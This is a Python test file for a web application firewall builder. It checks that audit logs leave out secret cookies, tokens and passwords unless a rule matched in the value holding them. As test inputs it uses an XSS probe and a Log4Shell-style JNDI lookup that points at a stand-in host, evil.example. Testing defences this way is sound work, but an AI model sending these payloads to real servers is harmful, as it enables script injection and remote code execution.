"""What an audit record holds of secrets: nothing but a value in which a rule matched."""

from __future__ import annotations

import json
import os
from typing import TYPE_CHECKING

import pytest
from support.waf import mark, render, running

from waf_builder.engine.compat import too_old_for
from waf_builder.engine.find import find

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from support.waf import Waf

    from waf_builder.engine.model import Engine

pytestmark = pytest.mark.nginx

XSS = "<script>alert(1)</script>"
JNDI = "${jndi:ldap://evil.example/a}"
FORM = "application/x-www-form-urlencoded"
SECRET = "s3cr3t"  # noqa: S105  it opens nothing
MULTIPART = (
    f'--xx\r\nContent-Disposition: form-data; name="q"\r\n\r\n{XSS}\r\n'
    f'--xx\r\nContent-Disposition: form-data; name="p"\r\n\r\n{SECRET}\r\n--xx--\r\n'
)
REQUESTS: dict[str, tuple[dict[str, str], str]] = {
    "other-cookie": ({"Cookie": f"a={XSS}; session={SECRET}"}, ""),
    "other-header": ({"Authorization": f"Bearer {SECRET}", "User-Agent": JNDI}, ""),
    "other-field": ({"Content-Type": FORM}, f"q={XSS}&password={SECRET}"),
    "other-json": ({"Content-Type": "application/json"}, json.dumps({"q": XSS, "p": SECRET})),
    "other-part": ({"Content-Type": "multipart/form-data; boundary=xx"}, MULTIPART),
    "bad-json": ({"Content-Type": "application/json"}, f'{{"password": "{SECRET}", x}}'),
    "bad-xml": ({"Content-Type": "text/xml"}, f"<a>{SECRET}</b>"),
    "bad-multipart": (
        {"Content-Type": "multipart/form-data; boundary=xx"},
        f'--xx\r\nContent-Disposition: form-data; name="a"\r\n\r\n{SECRET}\r\n--x',
    ),
}


CRS_4 = os.environ.get("WAF_BUILDER_TEST_CRS_4", "")
SPEC = "backend: {host: 127.0.0.1, port: 9}\nworkers: 1\n"


@pytest.fixture(scope="module", params=["own", "crs-4"])
def secretive(request: pytest.FixtureRequest, engine: Engine, trees: Path) -> Iterator[Waf]:
    """Each engine with the rules that came with it, and with a Core Rule Set 4."""
    options: list[str] = []
    if request.param == "crs-4":
        if not CRS_4:
            pytest.skip("no CRS 4 is in Debian: WAF_BUILDER_TEST_CRS_4=DIR has one")
        engine = find(str(engine.root), CRS_4)
        if engine.crs and too_old_for(engine.crs.version, engine.modsecurity_version):
            pytest.skip(f"{engine.crs.version} needs a newer libmodsecurity")
        options = ["--crs", CRS_4]
    tree = trees / mark()
    render(SPEC, tree, engine, *options)
    with running(tree, resolver="127.0.0.1") as waf:
        yield waf


def record(waf: Waf, headers: dict[str, str], body: str) -> str:
    marker = mark()
    method = "POST" if body else "GET"
    status = waf.ask(
        f"/{marker}", method=method, headers=headers, body=body.encode() or None
    ).status
    assert status in {400, 403}
    return json.dumps(waf.audit(marker))


@pytest.mark.parametrize("case", REQUESTS)
def test_what_did_not_match_is_not_in_it(secretive: Waf, case: str):
    assert SECRET not in record(secretive, *REQUESTS[case])


@pytest.mark.parametrize("header", ["Authorization", "Cookie", "X-Token"])
def test_the_own_rules_name_what_they_found_and_quote_nothing(waf: Waf, header: str):
    text = f"sid={SECRET}; a={JNDI}" if header == "Cookie" else f"Bearer {SECRET} {JNDI}"
    marker = mark()
    assert waf.ask(f"/{marker}", headers={header: text}).status == 403
    own = [
        one for one in waf.audit(marker)["messages"] if one["details"]["ruleId"].startswith("902")
    ]
    found = {"Cookie": "REQUEST_COOKIES:a"}.get(header, f"REQUEST_HEADERS:{header}")
    assert [one["details"]["data"] for one in own] == [found]
    assert SECRET not in json.dumps(own)


def test_what_matched_is_in_it(secretive: Waf):
    """No engine can leave it out: rules of the Core Rule Set quote the whole value."""
    quoted = record(secretive, {"Content-Type": FORM}, f"q={XSS}{SECRET}&p=other")
    assert SECRET in quoted
    assert "other" not in quoted
